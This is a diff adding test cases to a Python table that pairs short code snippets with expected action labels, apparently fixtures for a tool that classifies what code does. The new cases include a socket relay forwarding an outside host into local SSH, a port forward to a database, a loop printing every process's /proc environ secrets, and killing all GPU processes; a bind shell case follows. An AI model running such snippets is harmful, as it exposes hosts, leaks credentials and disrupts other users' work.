@@ -65,6 +65,43 @@ CASES: dict[str, tuple[str, list[str]]] = {
             "file.write /srv/app/previous",
         ],
     ),
+    "a relay between two connections": (
+        """
+        import socket
+        far = socket.create_connection(("203.0.113.9", 443))
+        near = socket.create_connection(("127.0.0.1", 22))
+        while data := far.recv(4096):
+            near.sendall(data)
+        """,
+        ["net.connect tcp 203.0.113.9 443", "net.connect tcp 127.0.0.1 22", "net.relay 203.0.113.9 443 127.0.0.1 22"],
+    ),
+    "a relay for who connects here": (
+        """
+        import socket
+        server = socket.create_server(("127.0.0.1", 15432))
+        client, _ = server.accept()
+        near = socket.create_connection(("db.example", 5432))
+        near.sendall(client.recv(4096))
+        client.sendall(near.recv(4096))
+        """,
+        ["net.listen tcp 127.0.0.1 15432", "net.connect tcp db.example 5432"],
+    ),
+    "secrets of every process": (
+        """
+        import glob
+        for path in glob.glob("/proc/[0-9]*/environ"):
+            print(open(path).read())
+        """,
+        ["file.read /proc/%{file_2}/environ"],
+    ),
+    "processes on the GPUs ended": (
+        """
+        import os, subprocess
+        for pid in subprocess.check_output(["nvidia-smi", "--query-compute-apps=pid"], text=True).split():
+            os.kill(int(pid), 9)
+        """,
+        ["nvidia-smi --query-compute-apps pid", "process.kill gpu %{command_6}"],
+    ),
     "bind shell": (
         """
         import socket, os, pty
